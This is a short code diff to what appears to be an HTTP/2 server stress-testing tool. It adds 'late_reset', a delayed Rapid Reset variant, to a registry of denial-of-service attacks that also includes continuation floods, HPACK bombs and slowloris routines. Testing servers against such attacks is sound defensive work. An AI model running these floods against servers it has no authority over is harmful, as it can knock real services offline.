@@ -64,6 +64,12 @@ def rapid_reset(t):
     return flood(t, b"", lambda i: head(get, nth(i)) + frame(RST, 0, nth(i), b"\0\0\0\x08"))
 
 
+def late_reset(t):
+    """Each request has left for its server when it is given up, in the write after its own."""
+    get = t.get()
+    return flood(t, b"", lambda i: head(get, nth(i)) + (frame(RST, 0, nth(i - BATCH), b"\0\0\0\x08") if i >= BATCH else b""))
+
+
 def made_you_reset(break_rule, end=False, block=None):
     def attack(t):
         get = t.get() if block is None else t.get("/", "POST", *block)
@@ -361,7 +367,7 @@ def slow_hello(t):
 
 
 ATTACKS = {f.__name__: f for f in (
-    rapid_reset, continuation, empty_continuation, slow_continuation, slow_frame, hpack_bomb, reference_bomb, empty_headers, trailers_without_end,
+    rapid_reset, late_reset, continuation, empty_continuation, slow_continuation, slow_frame, hpack_bomb, reference_bomb, empty_headers, trailers_without_end,
     ping, deaf_ping, empty_settings, long_settings, priority, window_update, empty_data, padded_data, unknown_frames, settings_ack, zero_window,
     one_byte_window, deaf, after_goaway, data_with_reset, slowloris_line, slowloris_headers, slowloris_body, slow_read, half_open,
     connection_flood, oversize_head, handshake_flood, half_handshakes, slow_hello)}
